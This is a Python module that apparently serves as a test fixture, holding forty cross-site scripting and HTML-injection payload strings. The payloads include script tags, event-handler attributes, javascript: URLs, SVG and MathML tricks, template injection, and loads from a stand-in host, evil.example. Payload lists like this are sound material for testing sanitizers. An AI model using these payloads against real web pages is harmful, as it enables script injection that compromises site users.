"""Forty texts that would run a script, load a picture or break out of a tag, were they ever taken for HTML.

Each script sets `window.pwned`; each address is of a host that must never be asked.
"""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_DO = "window.pwned=1"
_AWAY = "//evil.example/x"

PAYLOADS: tuple[str, ...] = (
    f"<script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"<ScRiPt >{_DO}</sCrIpT >",
    f"<script src={_AWAY}.js></script>",
    f"<img src=x onerror={_DO}>",
    f"<img src=x onerror='{_DO}'",
    f'"><img src=x onerror={_DO}>',
    f"'><img src=x onerror={_DO}>",
    f"</title><img src=x onerror={_DO}>",
    f"</textarea><img src=x onerror={_DO}>",
    f"</style><img src=x onerror={_DO}>",
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_DO}><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_DO}></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror={_DO}>",
    f"<body onload={_DO}>",
    f"<iframe src=javascript:parent.{_DO}></iframe>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<object data=javascript:{_DO}></object>",
    f"<embed src=javascript:{_DO}>",
    f"<a href=javascript:{_DO}>x</a>",
    f"<form action=javascript:{_DO}><button>x</button></form>",
    f"<input autofocus onfocus={_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<marquee onstart={_DO}>",
    f"<style>@import '{_AWAY}.css'</style>",
    f"<link rel=stylesheet href={_AWAY}.css>",
    f"<base href={_AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<img src={_AWAY}.png>",
    f"[x](javascript:{_DO})",
    f"![x]({_AWAY}.png)",
    f"${{{_DO}}}{{{{constructor.constructor('{_DO}')()}}}}",
    f'"onmouseover={_DO} x="',
    f"%3Cimg%20src=x%20onerror={_DO}%3E&lt;img src=x onerror={_DO}&gt;",
    f"\u202e<img src=x onerror={_DO}>\U0001f4a5\u2066",
)  # fmt: skip
